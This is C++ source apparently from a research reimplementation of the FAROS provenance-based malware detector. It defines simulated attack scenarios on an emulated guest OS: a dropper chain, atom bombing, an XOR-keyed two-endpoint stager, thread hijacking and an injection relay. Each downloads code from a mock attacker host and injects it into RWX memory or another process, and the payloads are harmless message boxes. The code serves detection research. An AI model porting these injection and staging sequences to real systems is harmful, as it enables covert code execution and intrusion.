                          Bytes{'t', 'o', 'p', '-', 's', 'e', 'c', 'r', 'e',
                                't', '-', 'd', 'a', 't', 'a'});

  auto pid = m.kernel().spawn(paths::kExplorer);
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + spec.name);
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> RatInjectionScenario::make_source() {
  PayloadSpec pspec;
  pspec.action = PayloadAction::kMessageBox;
  pspec.message = rat_name_ + " payload in explorer.exe";
  pspec.ending = PayloadEnding::kLoopForever;
  auto payload = build_payload(pspec);

  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) {
    Bytes inject_cmd;
    inject_cmd.push_back('I');
    inject_cmd.insert(inject_cmd.end(), payload.value().begin(),
                      payload.value().end());
    c2->queue_response(std::move(inject_cmd));
  }
  c2->queue_response(Bytes{'S'});
  c2->queue_response(Bytes{'U'});
  c2->queue_response(Bytes{'Q'});
  return c2;
}

// ---------------------------------------------------------------------------
// Multi-stage dropper chain.

Result<void> DropperChainScenario::setup(os::Machine& m) {
  using vm::Reg;
  // Stage 1: download stage 2, drop it to disk, run it.
  os::ImageBuilder ib("dropper.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 8192, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 8192);
  a.mov(Reg::R8, Reg::R0);  // stage-2 size
  a.movi_label(Reg::R1, "drop_path");
  emit_sys(a, os::Sys::kNtCreateFile);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R9);
  a.mov(Reg::R3, Reg::R8);
  emit_sys(a, os::Sys::kNtWriteFile);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtCloseHandle);
  a.movi_label(Reg::R1, "drop_path");
  a.movi(Reg::R2, 0);
  emit_sys(a, os::Sys::kNtCreateProcess);
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("drop_path");
  a.data_str("C:/Temp/update.exe");
  auto img = ib.build();
  if (!img.ok()) return Err<void>(img.error().message);
  m.kernel().vfs().create(std::string(kSampleDir) + "dropper.exe",
                          img.value().serialize());
  auto pid = m.kernel().spawn(std::string(kSampleDir) + "dropper.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> DropperChainScenario::make_source() {
  using vm::Reg;
  // Stage 2: a full SX32 executable that resolves MessageBoxA by walking
  // the export tables inline, announces itself, then idles.
  os::ImageBuilder ib("update.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_export_walk(a, "s2", fnv1a32(os::sym::kUser32),
                   fnv1a32(os::sym::kMessageBox));
  a.mov(Reg::R9, Reg::R0);
  a.movi_label(Reg::R1, "msg");
  a.movi(Reg::R2, 16);
  a.callr(Reg::R9);
  a.label("spin");
  emit_sys(a, os::Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("msg");
  a.data_str("stage two alive!", false);
  auto img = ib.build();

  auto c2 = std::make_unique<C2Server>();
  if (img.ok()) c2->queue_response(img.value().serialize());
  return c2;
}

// ---------------------------------------------------------------------------
// IPC relay through a loopback socket.

Result<void> IpcRelayScenario::setup(os::Machine& m) {
  using vm::Reg;
  constexpr u16 kServicePort = 9000;

  // Backend: binds the service port, receives a code blob, runs it.
  {
    os::ImageBuilder ib("backend.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R10, Reg::R0);
    a.mov(Reg::R1, Reg::R10);
    a.movi(Reg::R2, kServicePort);
    emit_sys(a, os::Sys::kNtBind);
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    emit_recv(a, Reg::R9, 4096);
    a.mov(Reg::R8, Reg::R0);
    emit_alloc_self(a, 4096,
                    os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    a.movi(Reg::R4, 0);
    a.label("cp");
    a.cmp(Reg::R4, Reg::R8);
    a.bgeu("cpd");
    a.add(Reg::R5, Reg::R9, Reg::R4);
    a.ld8(Reg::R7, Reg::R5, 0);
    a.add(Reg::R5, Reg::R6, Reg::R4);
    a.st8(Reg::R5, 0, Reg::R7);
    a.addi(Reg::R4, Reg::R4, 1);
    a.jmp("cp");
    a.label("cpd");
    a.callr(Reg::R6);
    emit_exit(a, 0);
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(std::string(kSampleDir) + "backend.exe",
                            img.value().serialize());
  }
  // Frontend: downloads the payload, relays it to the backend over
  // loopback.
  {
    os::ImageBuilder ib("frontend.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_connect(a, kAttackerIp, kAttackerPort);
    emit_send_label(a, "req", 3);
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    emit_recv(a, Reg::R9, 4096);
    a.mov(Reg::R8, Reg::R0);
    // Loopback connection to the backend service.
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R11, Reg::R0);
    a.mov(Reg::R1, Reg::R11);
    a.movi(Reg::R2, 0);  // placeholder; patched via guest ip below
    // The guest's own IP is not an immediate the program knows; use the
    // kernel-reported value through NtResolveHost("localhost").
    a.movi_label(Reg::R1, "lo");
    emit_sys(a, os::Sys::kNtResolveHost);
    a.mov(Reg::R12, Reg::R0);
    a.mov(Reg::R1, Reg::R11);
    a.mov(Reg::R2, Reg::R12);
    a.movi(Reg::R3, kServicePort);
    emit_sys(a, os::Sys::kNtConnect);
    a.mov(Reg::R1, Reg::R11);
    a.mov(Reg::R2, Reg::R9);
    a.mov(Reg::R3, Reg::R8);
    emit_sys(a, os::Sys::kNtSend);
    emit_exit(a, 0);
    a.align(8);
    a.label("req");
    a.data_str("GET", false);
    a.align(8);
    a.label("lo");
    a.data_str("localhost");
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(std::string(kSampleDir) + "frontend.exe",
                            img.value().serialize());
  }
  m.kernel().add_dns("localhost", m.kernel().net().guest_ip());

  auto pid = m.kernel().spawn(std::string(kSampleDir) + "backend.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "frontend.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> IpcRelayScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "relayed payload in backend.exe";
  spec.ending = PayloadEnding::kExit;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Atom bombing.

Result<void> AtomBombingScenario::setup(os::Machine& m) {
  using vm::Reg;
  constexpr u16 kPumpPort = 7777;
  const u32 guest_ip = m.kernel().net().guest_ip();

  // Victim: a "message pump" that waits for a message carrying an atom id,
  // fetches the atom into an executable buffer, and (as the queued "APC")
  // executes it.
  {
    os::ImageBuilder ib("winlogon.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R10, Reg::R0);
    a.mov(Reg::R1, Reg::R10);
    a.movi(Reg::R2, kPumpPort);
    emit_sys(a, os::Sys::kNtBind);
    a.movi_label(Reg::R9, "msgbuf");
    emit_recv(a, Reg::R9, 4);  // the "window message": an atom id
    a.ld32(Reg::R8, Reg::R9, 0);
    emit_alloc_self(a, 4096,
                    os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    a.mov(Reg::R1, Reg::R8);
    a.mov(Reg::R2, Reg::R6);
    a.movi(Reg::R3, 4096);
    emit_sys(a, os::Sys::kNtGetAtom);
    a.callr(Reg::R6);
    emit_exit(a, 0);
    a.align(8);
    a.label("msgbuf");
    a.zeros(8);
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(paths::kExplorer, img.value().serialize());
  }
  // Attacker: downloads the payload, stages it as a global atom, posts the
  // atom id to the victim's pump.
  {
    os::ImageBuilder ib("atom_bomber.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_connect(a, kAttackerIp, kAttackerPort);
    emit_send_label(a, "req", 3);
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    emit_recv(a, Reg::R9, 4096);
    a.mov(Reg::R8, Reg::R0);
    // Stage the payload in the atom table.
    a.mov(Reg::R1, Reg::R9);
    a.mov(Reg::R2, Reg::R8);
    emit_sys(a, os::Sys::kNtAddAtom);
    a.movi_label(Reg::R5, "idbuf");
    a.st32(Reg::R5, 0, Reg::R0);
    // Post the atom id to the victim's message pump (loopback).
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R11, Reg::R0);
    a.mov(Reg::R1, Reg::R11);
    a.movi(Reg::R2, guest_ip);
    a.movi(Reg::R3, kPumpPort);
    emit_sys(a, os::Sys::kNtConnect);
    a.mov(Reg::R1, Reg::R11);
    a.movi_label(Reg::R2, "idbuf");
    a.movi(Reg::R3, 4);
    emit_sys(a, os::Sys::kNtSend);
    emit_exit(a, 0);
    a.align(8);
    a.label("req");
    a.data_str("GET", false);
    a.align(8);
    a.label("idbuf");
    a.zeros(8);
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(std::string(kSampleDir) + "atom_bomber.exe",
                            img.value().serialize());
  }

  auto pid = m.kernel().spawn(paths::kExplorer);  // winlogon victim image
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "atom_bomber.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> AtomBombingScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "atom-bombed payload in winlogon.exe";
  spec.ending = PayloadEnding::kExit;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Multi-stage C2: payload and key from two distinct endpoints.

namespace {

constexpr u16 kKeyServerPort = 5555;
constexpr u8 kStageKey[8] = {0x5a, 0xa5, 0x3c, 0xc3, 0x96, 0x69, 0x0f, 0xf0};

}  // namespace

Result<void> MultiStageC2Scenario::setup(os::Machine& m) {
  using vm::Reg;
  os::ImageBuilder ib("stager.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  // Stage 1: encoded payload from the primary endpoint.
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);
  // Stage 2: the 8-byte XOR key from the second endpoint.
  emit_connect(a, kAttackerIp, kKeyServerPort);
  emit_send_label(a, "key", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R12, Reg::R0);
  emit_recv(a, Reg::R12, 8);
  // Decode into fresh RWX memory: every written byte is enc ^ key, so its
  // provenance is the union of both netflows.
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
  a.mov(Reg::R6, Reg::R0);
  a.movi(Reg::R4, 0);
  a.label("dec");
  a.cmp(Reg::R4, Reg::R8);
  a.bgeu("decd");
  a.add(Reg::R5, Reg::R9, Reg::R4);
  a.ld8(Reg::R7, Reg::R5, 0);
  a.andi(Reg::R2, Reg::R4, 7);
  a.add(Reg::R5, Reg::R12, Reg::R2);
  a.ld8(Reg::R3, Reg::R5, 0);
  a.xor_(Reg::R7, Reg::R7, Reg::R3);
  a.add(Reg::R5, Reg::R6, Reg::R4);
  a.st8(Reg::R5, 0, Reg::R7);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp("dec");
  a.label("decd");
  a.callr(Reg::R6);  // R9 still holds the stage-1 buffer for the payload
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("key");
  a.data_str("KEY", false);
  auto r = install_image(m, std::string(kSampleDir) + "stager.exe",
                         ib.build());
  if (!r.ok()) return r;
  auto pid = m.kernel().spawn(std::string(kSampleDir) + "stager.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> MultiStageC2Scenario::make_source() {
  using vm::Reg;
  // Tiny position-independent payload: one load from the (still tainted)
  // stage-1 buffer, then return to the stager. That load is the trigger a
  // "fetch distinct-netflows>=2" rule fires on — the *code* doing it was
  // decoded from two flows.
  vm::Assembler pa;
  pa.push(Reg::LR);
  pa.ld8(Reg::R5, Reg::R9, 0);
  pa.pop(Reg::LR);
  pa.ret();
  auto code = pa.assemble(0);

  auto multi = std::make_unique<MultiC2>();
  auto payload_c2 = std::make_unique<C2Server>(kAttackerIp, kAttackerPort);
  if (code.ok()) {
    Bytes enc = code.value();
    for (size_t i = 0; i < enc.size(); ++i) enc[i] ^= kStageKey[i & 7];
    payload_c2->queue_response(std::move(enc));
  }
  auto key_c2 = std::make_unique<C2Server>(kAttackerIp, kKeyServerPort);
  key_c2->queue_response(Bytes(kStageKey, kStageKey + 8));
  multi->add(std::move(payload_c2));
  multi->add(std::move(key_c2));
  return multi;
}

// ---------------------------------------------------------------------------
// Thread hijacking: suspend a *running* victim, redirect its context.

Result<void> ThreadHijackScenario::setup(os::Machine& m) {
  using vm::Reg;
  auto r = install_image(m, "C:/Windows/taskhost.exe",
                         build_idle_program("taskhost.exe"));
  if (!r.ok()) return r;

  // The hijacker: download, then the SetThreadContext sequence — suspend,
  // carve RWX, write across the boundary, redirect, resume. Unlike
  // hollowing there is no child spawn and nothing is unmapped; the victim
  // was already running its own code.
  os::ImageBuilder ib("hijacker.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);  // payload length
  a.movi_label(Reg::R1, "target");
  emit_sys(a, os::Sys::kNtOpenProcessByName);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtSuspendProcess);
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, 4096);
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.mov(Reg::R3, Reg::R9);
  a.mov(Reg::R4, Reg::R8);
  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, os::Sys::kNtSetEntryPoint);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtResumeProcess);
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("target");
  a.data_str("taskhost.exe");
  r = install_image(m, std::string(kSampleDir) + "hijacker.exe", ib.build());
  if (!r.ok()) return r;

  // Victim first: it must already be running when the hijacker suspends it.
  auto pid = m.kernel().spawn("C:/Windows/taskhost.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "hijacker.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> ThreadHijackScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "hijacked payload in taskhost.exe";
  spec.ending = PayloadEnding::kLoopForever;  // stays resident at snapshot
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// A -> B -> C injection relay.

Result<void> InjectionRelayScenario::setup(os::Machine& m) {
  using vm::Reg;
  auto r = install_image(m, "C:/Windows/relay.exe",
                         build_idle_program("relay.exe"));
  if (!r.ok()) return r;
  r = install_image(m, "C:/Windows/conhost.exe",
                    build_idle_program("conhost.exe"));
  if (!r.ok()) return r;

  // Stage 0: downloads the combined [stub][payload] blob and thread-hijacks
  // the *whole blob* into relay.exe. The stub half then runs inside relay
  // and performs the second hop on its own.
  os::ImageBuilder ib("stage0.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);  // blob length
  a.movi_label(Reg::R1, "target");
  emit_sys(a, os::Sys::kNtOpenProcessByName);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtSuspendProcess);
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, 4096);
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.mov(Reg::R3, Reg::R9);
  a.mov(Reg::R4, Reg::R8);
  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, os::Sys::kNtSetEntryPoint);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtResumeProcess);
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("target");
  a.data_str("relay.exe");
  r = install_image(m, std::string(kSampleDir) + "stage0.exe", ib.build());
  if (!r.ok()) return r;

  // Both victims must already be running; relay is hijacked by stage0, and
  // conhost by the stub running inside relay.
  auto pid = m.kernel().spawn("C:/Windows/relay.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn("C:/Windows/conhost.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "stage0.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> InjectionRelayScenario::make_source() {
  using vm::Reg;
  // The final payload (runs in conhost.exe, hop C): an export-walking
  // MessageBox — the one confluence trigger of the whole chain.
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "relayed payload in conhost.exe";
  spec.ending = PayloadEnding::kLoopForever;
  auto payload = build_payload(spec);
  if (!payload.ok()) return std::make_unique<C2Server>();

  // The relay stub (runs in relay.exe, hop B): position-independent code
  // that re-injects the payload embedded in its own blob into conhost.exe
  // with the same suspend/write/redirect sequence, then exits. It makes
  // only syscalls plus one tainted LD32 (the embedded length word) and
  // never touches an export table, so hop B itself must NOT flag — the
  // relay shows up in the slice purely through provenance.
  vm::Assembler sa;
  sa.addpc_label(Reg::R9, "payload");
  sa.addpc_label(Reg::R5, "plen");
  sa.ld32(Reg::R8, Reg::R5, 0);
  sa.addpc_label(Reg::R1, "cname");
  emit_sys(sa, os::Sys::kNtOpenProcessByName);
  sa.mov(Reg::R7, Reg::R0);
  sa.mov(Reg::R1, Reg::R7);
  emit_sys(sa, os::Sys::kNtSuspendProcess);
  sa.mov(Reg::R1, Reg::R7);
  sa.movi(Reg::R2, 4096);
  sa.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(sa, os::Sys::kNtAllocateVirtualMemory);
  sa.mov(Reg::R6, Reg::R0);
  sa.mov(Reg::R1, Reg::R7);
  sa.mov(Reg::R2, Reg::R6);
  sa.mov(Reg::R3, Reg::R9);
  sa.mov(Reg::R4, Reg::R8);
  emit_sys(sa, os::Sys::kNtWriteVirtualMemory);
  sa.mov(Reg::R1, Reg::R7);
  sa.mov(Reg::R2, Reg::R6);
  emit_sys(sa, os::Sys::kNtSetEntryPoint);
  sa.mov(Reg::R1, Reg::R7);
  emit_sys(sa, os::Sys::kNtResumeProcess);
  emit_exit(sa, 0);
  sa.align(8);
  sa.label("plen");
  sa.data_u32(static_cast<u32>(payload.value().size()));
  sa.align(8);
  sa.label("cname");
  sa.data_str("conhost.exe");
  sa.align(8);
  sa.label("payload");
  sa.data(ByteSpan(payload.value().data(), payload.value().size()));
  auto blob = sa.assemble(0);

  auto c2 = std::make_unique<C2Server>();
  if (blob.ok()) c2->queue_response(blob.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Table IV behaviour samples.

Result<void> BehaviorScenario::setup(os::Machine& m) {
  auto r = install_image(m, paths::kHelper, build_helper_program());
  if (!r.ok()) return r;
  m.kernel().vfs().create(paths::kSecretDoc,
                          Bytes(48, static_cast<u8>('s')));
  m.kernel().vfs().create(paths::kReportDoc,
                          Bytes(64, static_cast<u8>('r')));

  std::string image_name = sample_name_;
  r = install_image(m, std::string(kSampleDir) + image_name,
                    build_behavior_program(image_name, behaviors_));
  if (!r.ok()) return r;

  for (Behavior b : behaviors_) {
    u32 dev = 0;
    u32 chunks = behavior_device_chunks(b, &dev);
    for (u32 i = 0; i < chunks; ++i) {
      Bytes data(b == Behavior::kKeylogger ? 8 : 32,
                 static_cast<u8>('a' + (i % 26)));
      m.inject_device(dev, data);
    }
  }

  auto pid = m.kernel().spawn(std::string(kSampleDir) + image_name);
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> BehaviorScenario::make_source() {
  auto c2 = std::make_unique<C2Server>();
  for (Behavior b : behaviors_) {
    for (u32 i = 0; i < behavior_c2_responses(b); ++i) {
      if (b == Behavior::kDownload) {
        c2->queue_response(Bytes(128, 0x5a));  // opaque blob, never executed
      } else {
        c2->queue_response(Bytes{'r', 'u', 'n'});
      }
    }
  }
  return c2;
}

// ---------------------------------------------------------------------------
// Table III JIT workloads.

Result<void> JitScenario::setup(os::Machine& m) {
  auto r = install_image(m, std::string(kSampleDir) + host_,
                         build_jit_host(host_));
  if (!r.ok()) return r;
  auto pid = m.kernel().spawn(std::string(kSampleDir) + host_);
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> JitScenario::make_source() {
  PayloadSpec spec;
  spec.action = linking_ ? PayloadAction::kLinkedCompute
                         : PayloadAction::kCompute;
  spec.ending = PayloadEnding::kRet;
  spec.compute_iters = 96;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

}  // namespace faros::attacks
