// Scenario catalogue + the record/replay analysis harness (the paper's
// Section V-C usage workflow: record the malware run live, then replay it
// under the FAROS plugin).
//
// A Scenario installs guest images into the VFS, spawns the initial
// processes, preloads device input, and supplies the scripted remote peer.
// Setup is deterministic, so running the same scenario against the same
// MachineConfig with the recorded ReplayLog reproduces the run exactly.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "attacks/c2.h"
#include "attacks/payloads.h"
#include "attacks/programs.h"
#include "core/engine.h"
#include "os/machine.h"

namespace faros::attacks {

class Scenario {
 public:
  virtual ~Scenario() = default;
  virtual std::string name() const = 0;
  /// Installs images, spawns processes, preloads device queues.
  virtual Result<void> setup(os::Machine& m) = 0;
  /// Scripted environment for record mode (may be null).
  virtual std::unique_ptr<os::EventSource> make_source() { return nullptr; }
  /// Instruction budget for one run.
  virtual u64 budget() const { return 2'000'000; }
};

struct RecordedRun {
  vm::ReplayLog log;
  os::RunStats stats;
  std::vector<std::string> console;
  std::vector<std::string> traps;
};

/// Records a live run of the scenario (no analysis plugins attached).
Result<RecordedRun> record_run(Scenario& sc, const os::MachineConfig& cfg = {});

struct ReplayedRun {
  os::RunStats stats;
  std::vector<std::string> console;
  std::vector<std::string> traps;
};

/// Replays a recorded log with optional plugins attached. The plugins see
/// boot (module loads), setup (process starts) and the whole execution.
Result<ReplayedRun> replay_run(Scenario& sc, const vm::ReplayLog& log,
                               vm::ExecHooks* cpu_plugin,
                               const std::vector<osi::GuestMonitor*>& monitors,
                               const os::MachineConfig& cfg = {});

/// record + replay-under-FAROS in one step.
struct AnalyzedRun {
  RecordedRun recorded;
  ReplayedRun replayed;
  std::vector<core::Finding> findings;       // all, including whitelisted
  bool flagged = false;                      // any non-whitelisted finding
  std::string report;                        // Table II-style text
  core::EngineStats engine_stats;
  size_t prov_lists = 0;                     // distinct provenance lists
  u64 tainted_bytes = 0;                     // shadow residency at end
};

Result<AnalyzedRun> analyze(Scenario& sc, const core::Options& opts = {},
                            const os::MachineConfig& cfg = {});

/// The static-analysis view of a scenario (src/sa's input): boots a scratch
/// machine, runs setup() — which installs images into the VFS and spawns
/// the initial processes, but retires zero guest instructions — and returns
/// every VFS file that parses as an SX32 image, in path order. Setup is
/// deterministic, so the extracted set is a pure function of the scenario.
struct ExtractedImage {
  std::string path;  // VFS path the image was installed at
  os::Image image;
};

Result<std::vector<ExtractedImage>> extract_images(
    Scenario& sc, const os::MachineConfig& cfg = {});

// ---------------------------------------------------------------------------
// The six in-memory-injection scenarios of the paper's evaluation.

enum class ReflectiveVariant {
  kMeterpreter,    // reflective_dll_inject: remote inject into notepad.exe
  kReverseTcpDns,  // shellcode and target are the same process
  kBypassUac,      // remote inject into firefox.exe
};

class ReflectiveDllScenario final : public Scenario {
 public:
  explicit ReflectiveDllScenario(ReflectiveVariant variant,
                                 bool transient = false);
  std::string name() const override;
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }
  const std::string& victim_name() const { return victim_; }

 private:
  ReflectiveVariant variant_;
  bool transient_;  // payload erases itself after acting
  std::string victim_;
  std::string victim_path_;  // empty for self-injection
};

/// Process hollowing of svchost.exe into a keylogger (Lab 3-3 analogue).
class HollowingScenario final : public Scenario {
 public:
  explicit HollowingScenario(bool transient = false)
      : transient_(transient) {}
  std::string name() const override { return "process_hollowing"; }
  Result<void> setup(os::Machine& m) override;
  u64 budget() const override { return 400'000; }

 private:
  bool transient_;
};

/// RAT code/process injection (DarkComet / Njrat analogues).
class RatInjectionScenario final : public Scenario {
 public:
  explicit RatInjectionScenario(std::string rat_name)
      : rat_name_(std::move(rat_name)) {}
  std::string name() const override { return rat_name_ + "-injection"; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }

 private:
  std::string rat_name_;
};

/// Multi-stage dropper (extension beyond the paper's six samples, exercising
/// the paper's Figure-4 byte lifecycle end to end): stage 1 downloads a
/// stage-2 *executable*, writes it to disk and spawns it; stage 2 links
/// itself by walking export tables. The provenance of the flagged
/// instruction spans the whole chain:
///   NetFlow -> dropper.exe -> File(update.exe) -> update.exe.
class DropperChainScenario final : public Scenario {
 public:
  std::string name() const override { return "dropper_chain"; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }
};

/// IPC relay (extension): a frontend downloads the payload from the C2 and
/// relays it to a backend service over a *loopback* socket; the backend
/// runs it. Exercises whole-system tracking through the network stack: the
/// flagged instruction's chain holds both netflows and both processes —
///   NetFlow(C2) -> frontend.exe -> NetFlow(loopback) -> backend.exe.
class IpcRelayScenario final : public Scenario {
 public:
  std::string name() const override { return "ipc_relay"; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }
};

/// Atom bombing (extension; the paper cites the Windows Defender write-up
/// on this technique): the attacker stages the payload in the *global atom
/// table* and posts the atom id to the victim's message pump (modelled as
/// a loopback message); the victim fetches the atom into executable memory
/// and runs it. No NtWriteVirtualMemory ever happens — the payload travels
/// entirely through kernel-resident storage, which the taint engine shadows.
class AtomBombingScenario final : public Scenario {
 public:
  std::string name() const override { return "atom_bombing"; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }
};

/// Multi-stage C2 (extension; exercises config-only detection through the
/// rule engine): the stager pulls an XOR-encoded payload from one C2
/// endpoint and the 8-byte key from a *second* endpoint, decodes into RWX
/// memory and runs the result. The payload never walks an export table, so
/// the built-in confluence rules stay silent — but the decoded code's
/// provenance carries both netflows, and a one-line policy rule
/// ("fetch distinct-netflows>=2" on tainted-load, see
/// policies/multistage.json) flags it with no host-code change. Not part
/// of full_corpus(): its ground truth depends on the loaded ruleset.
class MultiStageC2Scenario final : public Scenario {
 public:
  std::string name() const override { return "multi_stage_c2"; }
  Result<void> setup(os::Machine& m) override;
  std::unique_ptr<os::EventSource> make_source() override;
  u64 budget() const override { return 400'000; }
};

/// Thread-hijack-style injection (multi-hop slice scenario): the hijacker
